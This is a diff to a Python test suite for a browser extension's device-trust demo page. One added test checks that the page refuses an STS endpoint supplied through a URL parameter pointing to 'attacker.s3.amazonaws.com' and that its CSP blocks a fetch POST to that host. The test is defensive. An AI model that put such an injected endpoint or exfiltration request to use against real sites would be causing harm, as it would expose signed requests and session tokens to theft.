@@ -274,7 +274,6 @@ def test_certificate_is_presented_only_when_the_policy_filter_names_it(endpoint,
 
     with browser_for(endpoint, web_port, tmp_path, edit_policy=other_laptop) as browser:
         [answer] = ask(browser, f"http://127.0.0.1:{web_port}/index.html")
-    print("DEBUG", answer, endpoint.requests)
     assert answer["error"]["code"] == "network-error", answer
     assert endpoint.requests == []
 
@@ -288,3 +287,21 @@ def test_shipped_extension_does_not_call_an_endpoint_on_localhost(endpoint, web_
     assert answer == {"error": {"code": "endpoint-not-permitted", "message": (
         f"this extension may not fetch from {endpoint.address}: its manifest's host_permissions do not name it")}}
     assert endpoint.requests == [], "no request reached the endpoint"
+
+
+def test_demo_page_refuses_an_sts_endpoint_from_its_link_and_its_csp_blocks_other_aws_hosts(browser_env, endpoint):
+    # A link that names another STS endpoint would make the page post the signed request and the session token
+    # there: the page refuses it before asking the extension, and its CSP would block the request anyway.
+    browser, web_port = browser_env
+    page = browser.open_page(f"http://127.0.0.1:{web_port}/index.html?sts=https://attacker.s3.amazonaws.com")
+    page.wait_for("document.readyState === 'complete' && !!window.deviceTrustDemo")
+    result = page.evaluate("window.deviceTrustDemo.run({timeoutMs: 10000})", timeout=40)
+    assert result["ok"] is False and result["error"]["code"] == "bad-setting", result
+    assert page.evaluate("document.getElementById('status').textContent").startswith("bad-setting: sts ")
+    assert endpoint.requests == [], "the extension was not asked for credentials"
+    blocked = page.evaluate("""new Promise(resolve => {
+        document.addEventListener("securitypolicyviolation", (e) => resolve(e.blockedURI), {once: true});
+        fetch("https://attacker.s3.amazonaws.com/", {method: "POST", body: "x"}).catch(() => {});
+        setTimeout(() => resolve(null), 5000);
+    })""", timeout=30)
+    assert blocked and blocked.startswith("https://attacker.s3.amazonaws.com"), blocked
